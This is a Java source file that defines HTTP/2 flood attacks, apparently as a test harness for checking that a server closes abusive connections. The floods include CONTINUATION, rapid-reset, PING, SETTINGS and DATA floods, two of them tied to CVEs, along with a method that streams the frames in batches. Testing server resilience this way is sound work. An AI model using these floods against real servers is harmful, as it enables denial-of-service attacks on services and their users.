package io.timecoin.attack;

import static io.timecoin.attack.Http2Frame.encoded;

import java.io.IOException;
import java.net.SocketException;
import java.util.Arrays;
import java.util.function.IntFunction;

/** Frames that HTTP/2 allows one by one and that carry nothing: a connection that sends them without end has no other purpose. */
@SuppressWarnings("ImmutableEnumChecker") // nobody writes to the arrays
public enum Flood {
    /** CVE-2026-33871: headers that never end. */
    EMPTY_CONTINUATIONS(
            Http2Frame.encoded(
                    Http2Frame.HEADERS, 0, 3, HeaderBlock.call("/x/y").toBytes()),
            _ -> encoded(Http2Frame.CONTINUATION, 0, 3)),
    /** Each byte of a message in a frame of its own; the message is one that a link may send. */
    ONE_BYTE_DATA(
            encoded(Http2Frame.DATA, 0, 1, RawHttp2.framed(1_000, new byte[0])),
            _ -> encoded(Http2Frame.DATA, 0, 1, (byte) 7)),
    EMPTY_DATA(_ -> encoded(Http2Frame.DATA, 0, 1)),
    PADDED_DATA(_ -> encoded(Http2Frame.DATA, Http2Frame.PADDED, 1, (byte) 3, (byte) 0, (byte) 0, (byte) 0)),
    PINGS(_ -> encoded(Http2Frame.PING, 0, 0, new byte[8])),
    PING_ACKNOWLEDGEMENTS(_ -> encoded(Http2Frame.PING, Http2Frame.ACK, 0, new byte[8])),
    SETTINGS(_ -> encoded(Http2Frame.SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 7})),
    SETTINGS_ACKNOWLEDGEMENTS(_ -> encoded(Http2Frame.SETTINGS, Http2Frame.ACK, 0)),
    WINDOW_UPDATES(_ -> encoded(Http2Frame.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})),
    PRIORITIES(_ -> encoded(Http2Frame.PRIORITY, 0, 1, new byte[] {0, 0, 0, 0, 7})),
    UNKNOWN_FRAMES(_ -> encoded(0x4d, 0, 0)),
    /** Calls that are reset as soon as they are opened. */
    RAPID_RESETS(i -> join(
            encoded(
                    Http2Frame.HEADERS,
                    Http2Frame.END_HEADERS,
                    stream(i),
                    HeaderBlock.call(HeaderBlock.LINK).toBytes()),
            encoded(Http2Frame.RST_STREAM, 0, stream(i), new byte[] {0, 0, 0, 8}))),
    /** CVE-2026-47244: calls of a peer that never acknowledges the settings that would bound them. */
    CALLS(i -> encoded(
            Http2Frame.HEADERS,
            Http2Frame.END_HEADERS,
            stream(i),
            HeaderBlock.call(HeaderBlock.LINK).toBytes())),
    /** Trailers of the call in hand, again and again. */
    HEADERS(_ -> encoded(
            Http2Frame.HEADERS,
            Http2Frame.END_HEADERS,
            1,
            HeaderBlock.call(HeaderBlock.LINK).toBytes()));

    private static final int AT_ONCE = 100;

    private final byte[] first;
    private final IntFunction<byte[]> frame;

    Flood(IntFunction<byte[]> frame) {
        this(new byte[0], frame);
    }

    Flood(byte[] first, IntFunction<byte[]> frame) {
        this.first = first;
        this.frame = frame;
    }

    /** Client streams after that of the first call, which is 1. */
    private static int stream(int i) {
        return 2 * i + 3;
    }

    private static byte[] join(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    /** Sends so many frames, unless the connection is closed before; returns whether it was. */
    public boolean send(RawHttp2 connection, int frames) throws IOException {
        try {
            connection.raw(first);
            for (int i = 0; i < frames; i += AT_ONCE) {
                byte[] some = new byte[0];
                for (int j = i; j < i + AT_ONCE; j++) {
                    some = join(some, frame.apply(j));
                }
                connection.raw(some);
            }
            return false;
        } catch (SocketException e) {
            return true; // closed while this side was writing
        }
    }
}
